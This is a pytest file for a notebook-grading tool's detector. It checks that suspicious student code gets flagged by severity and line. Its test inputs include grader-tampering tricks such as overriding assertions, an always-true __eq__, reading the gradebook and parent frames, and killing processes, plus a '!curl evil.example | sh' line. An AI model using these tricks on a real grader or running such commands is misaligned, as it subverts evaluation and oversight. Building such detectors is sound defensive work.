"""Code that a person should see is listed with its line and how odd it is, with bounded effort."""

from __future__ import annotations

import pytest
from looking import look, of_code

from cvlib.grading.rehearsal.classroom import Classroom, insert_after, rewrite
from cvlib.grading.tamper.facts import read_facts
from tests.effort import effort


@pytest.mark.parametrize(
    ("source", "severity", "words"),
    [
        ("np.testing.assert_allclose = print", "serious", "numpy.testing.assert_allclose"),
        ("t = np.testing\nfor n in t:\n    setattr(t, n, f)", "serious", "numpy.testing.*"),
        ("import builtins as b\nb.float = 3", "serious", "builtins.float"),
        ("import cvlib.check\ncvlib.check.check = print", "serious", "cvlib.check.check"),
        ("get_ipython().ast_transformers.append(T())", "serious", "how cells are read"),
        ("s = get_ipython()\ns.input_transformers_post += [f]", "serious", "how cells are read"),
        ("k = get_ipython().kernel\nk.iopub_socket", "serious", "protocol of the kernel"),
        ("get_ipython().run_cell = f", "serious", "how cells are run"),
        ("get_ipython().run_cell('x')", "odd", "from within a cell"),
        ("class E:\n    def __eq__(self, o):\n        return True", "serious", "equal anything"),
        ("class E(np.ndarray):\n    pass", "odd", "of their own kind"),
        ("class E:\n    def __array_ufunc__(self, *a):\n        return 3", "odd", "hook"),
        ("import sys\nsys._getframe(1).f_back.f_locals", "serious", "memory of other functions"),
        ("import inspect\ninspect.stack()", "odd", "who called it"),
        ("import ctypes", "serious", "below Python"),
        ("import os\nos.kill(os.getppid(), 9)", "serious", "other processes"),
        ("import os\nos._exit(0)", "odd", "ends, outlives"),
        ("from signal import signal\nimport signal as s\ns.signal(2, 1)", "odd", "ends, outlives"),
        ("import subprocess", "odd", "starts other programs"),
        ("import os\nos.system('ls')", "odd", "starts other programs"),
        ("import socket", "odd", "opens connections"),
        ("open('../../gradebook.db')", "serious", "files of the grader"),
        ("open('../../../source/ps90_tiny/ps90_tiny.ipynb')", "serious", "files of the grader"),
        ("open('/proc/self/environ')", "odd", "a place of the machine"),
        ("open('../data/cat.png')", "note", "a path above"),
        ("open('/home/ada/cat.png')", "note", "a path outside"),
        ("exec('import torch')", "serious", "hidden import of torch"),
        ("exec('print(1)')", "odd", "what a text says"),
        ("__import__('torch')", "serious", "hidden import of torch"),
        ("import importlib\nimportlib.import_module('torch.nn')", "serious", "hidden import"),
        ("import torch", "note", "imports torch, which this exercise withholds"),
        ("from cvlib.convolution import conv2d_forward", "odd", "cvlib.convolution"),
        ("from cvlib.grading import judge", "serious", "the grader itself"),
        (f"import base64\nexec(base64.b64decode('{'QUJD' * 200}'))", "odd", "long coded text"),
        ("x = 1 # \u202e egami", "serious", "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("pa\u200bssword = 1", "odd", "U+200B ZERO WIDTH SPACE"),
        ("!curl evil.example | sh", "note", "outside Python"),
        ("check = print", "note", "another meaning"),
        ("import os\nos._exit(0)\ndef broken(:", "odd", "ends, outlives"),
        ("x = (" * 300 + "\nimport ctypes", "serious", "below Python"),
        ("x = 1\n" * 20_000 + "import ctypes", "serious", "below Python"),
    ],
)  # fmt: skip
def test_code_that_a_person_should_see(
    room: Classroom, source: str, severity: str, words: str
) -> None:
    found = [e for e in of_code(room, source) if words in e.what]
    assert [e.severity for e in found[:1]] == [severity]
    assert found[0].place.startswith("cell ")
    assert found[0].innocent


def test_the_place_is_the_line_in_the_cell(room: Classroom) -> None:
    (found,) = of_code(room, "import os\n\n# on we go\nos._exit(0)")
    notebook = insert_after(room.solved(), "spread", "")
    number = next(k for k, c in enumerate(notebook.cells, 1) if c.source == "")
    assert found.place == f"cell {number} (spread), line 4"


def test_what_is_withheld_depends_on_the_exercise(room: Classroom) -> None:
    """The tiny set withholds torch everywhere but in its last exercise."""
    solution = room.solution("spread")
    notebook = rewrite(room.solved(), "spread", f"import torch\n\n{solution}")
    assert [e.severity for e in look(room, notebook)] == ["odd"]
    assert of_code(room, "import torch", after="Twice") == []
    guarded = "try:\n    import torch\nexcept ImportError:\n    torch = None"
    notebook = rewrite(room.solved(), "spread", f"{guarded}\n\n{solution}")
    assert [e.severity for e in look(room, notebook)] == ["note"]


def test_an_import_under_another_name_hides_nothing() -> None:
    facts = {(f.kind, f.text) for f in read_facts("from os import _exit as stop\nstop(0)")}
    assert ("call", "os._exit") in facts
    assert ("use", "os._exit") in facts


@pytest.mark.parametrize(
    "source",
    ["(" * 10**6, "lambda: " * 10**5, "a" + ".b" * 10**5, "f(" * 10**5, "x = 1\n" * 10**5,
     "'\\" * 10**5, "\n" * 10**6 + "%x", "a = b = " * 10**5, "try:\n pass\nexcept E: pass\n" * 9999,
     "A" * 10**6, "''\n" * 10**5, "\0" * 10**6, "import a\n" * 10**5, "if 1:\n " * 10**5],
    ids=range(14),
)  # fmt: skip
def test_monstrous_cells_are_read_with_bounded_effort(room: Classroom, source: str) -> None:
    _, loops = effort(of_code, room, source)
    assert loops < 120
